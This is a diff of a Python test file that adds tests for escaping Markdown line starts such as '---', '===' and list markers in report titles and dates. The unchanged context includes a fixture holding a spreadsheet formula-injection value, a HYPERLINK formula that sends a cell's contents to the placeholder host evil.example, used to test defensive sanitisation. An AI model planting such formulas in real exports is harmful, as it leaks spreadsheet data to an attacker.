@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from dprk_ru.core.text import FORMULA_STARTS, inert
+from dprk_ru.core.text import FORMULA_STARTS, inert, markdown_inert
 
 EVIL = """name = "=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")"
 [[contingents]]
@@ -114,3 +114,41 @@ def test_brief_headings_survive_any_title_or_date(run, tmp_path: Path) -> None:
     assert html.count("<h2>") == want.count("<h2>") >= 4  # every section still a heading
     assert html.count("<pre>") == want.count("<pre>")  # only the command to reproduce it
     assert html.count("<h1>") == 1 and "<em>" not in html.split("</h1>")[0]
+
+
+LINE_STARTS = ["---", "-----", " ---", "===", "- - -", "+ x", "1. x", "1) x"]
+
+
+@pytest.mark.parametrize("text", LINE_STARTS)
+def test_markdown_inert_keeps_line_starts_as_text(text: str) -> None:
+    """A date or title that is a thematic break (`---`), a setext underline (`===`) or a list
+    marker (`+ x`, `1. x`, `1) x`) renders as the same text, in the paragraph it follows."""
+    html = _html("The figure.\n" + markdown_inert(text) + "\n")
+    assert html == f"<p>The figure.\n{text.strip()}</p>\n"
+
+
+def test_markdown_inert_escapes_only_the_rule() -> None:
+    """Only the first character of a line of `-` or `=` gets a backslash; ordinary text
+    with dashes keeps none."""
+    assert markdown_inert("---") == "\\---" and markdown_inert(" ===") == " \\==="
+    assert markdown_inert("- - -") == "\\- - -" and markdown_inert("1) x") == "1\\) x"
+    for text in ("2026-01-01", "a - b", "x ---", "-- x", "-1", "=x"):
+        assert markdown_inert(text) == text
+
+
+@pytest.mark.parametrize("text", LINE_STARTS)
+def test_brief_shows_a_rule_like_date_and_title(run, tmp_path: Path, text: str) -> None:
+    """`report --date '---'` keeps its date as a paragraph (it was an <hr />); as a title
+    each value is the one <h1>'s text."""
+    out = tmp_path / "b.md"
+    r = run("report", "--title", text, "--date", text, "-o", str(out))
+    assert r.exit_code == 0, r.stderr
+    html = _html(out.read_text())
+    plain = tmp_path / "plain.md"
+    assert run("report", "--date", "2026-01-01", "-o", str(plain)).exit_code == 0
+    want = _html(plain.read_text())
+    assert html.count("<hr />") == want.count("<hr />")
+    assert html.count("<h2>") == want.count("<h2>") >= 4
+    assert html.count("<ol") == want.count("<ol") and html.count("<ul>") == want.count("<ul>")
+    assert html.startswith(f"<h1>{text.strip()}</h1>\n")
+    assert f"a month on average.</p>\n<p>{text.strip()}</p>\n<h2>" in html
